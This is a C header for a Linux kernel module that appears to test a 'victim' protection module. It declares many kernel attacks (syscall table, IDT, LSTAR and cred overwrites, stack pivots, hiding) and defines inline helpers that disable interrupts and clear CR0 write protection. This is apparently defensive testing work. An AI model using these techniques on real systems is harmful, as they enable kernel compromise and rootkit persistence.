/* SPDX-License-Identifier: Apache-2.0 OR GPL-2.0 */
#ifndef ATTACK_H
#define ATTACK_H

#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/sched.h>
#include "../victim/victim.h"

/* Addresses of what the kernel does not export, from /proc/kallsyms: parameters of the same names. 0: not known. */
struct addresses {
	unsigned long sys_call_table, vhangup, pivot_root, linux_proc_banner, linux_banner, idt_table, modprobe_path, core_pattern;
	unsigned long kallsyms_lookup_name, set_memory_x, stext, entry_SYSCALL_64, vfs_write, do_init_module;
	unsigned long victim_inside; /* as /proc/victim says */
};
extern struct addresses at;

/* Where the kernel's call of this module has put its return address. */
extern unsigned long *entered_from;
extern unsigned long flood_calls;

/*
 * An attack returns 0 when its code went through, which says nothing of whether it had an effect; else why it could not be
 * tried here. All of them leave an unprotected kernel able to go on.
 */
int attack_syscall_table(void), attack_kernel_text(void), attack_wp(void), attack_page_table(void), attack_exec_page(void);
int attack_cr3(void), attack_idt(void), attack_idt_table(void), attack_idt_own(void), attack_lstar(void), attack_device(void);
int attack_cred_write(void), attack_cred_call(void), attack_memcpy_gadget(void), attack_ops_pointer(void);
int attack_superblock(void), attack_unexported(void), attack_foreign_data(void), attack_foreign_code(void);
int attack_hide(void), attack_exec_data(void), attack_flood(void);
int attack_thread_stack(void), attack_alias(void);
int attack_middle(void), attack_forged_return(void), attack_frame(void), attack_pivot(void), attack_pivot_interrupt(void);

/* Calls an address, by a return to it: indirect calls would have to find endbr64 there on processors that look for it. */
unsigned long call_at(unsigned long f, unsigned long a, unsigned long b);

/* Without the kernel's own functions, each of which would be a call to judge. */

static inline unsigned long quiet(void) /* no interrupts until loud */
{
	unsigned long flags;

	asm volatile("pushf; pop %0; cli" : "=rm"(flags) : : "memory");
	return flags;
}

static inline void loud(unsigned long flags)
{
	asm volatile("push %0; popf" : : "g"(flags) : "memory", "cc");
}

static inline unsigned long cr0(void)
{
	unsigned long v;

	asm volatile("mov %%cr0, %0" : "=r"(v));
	return v;
}

static inline void set_cr0(unsigned long v) /* unlike the kernel's, which keeps WP */
{
	asm volatile("mov %0, %%cr0" : : "r"(v) : "memory");
}

#endif
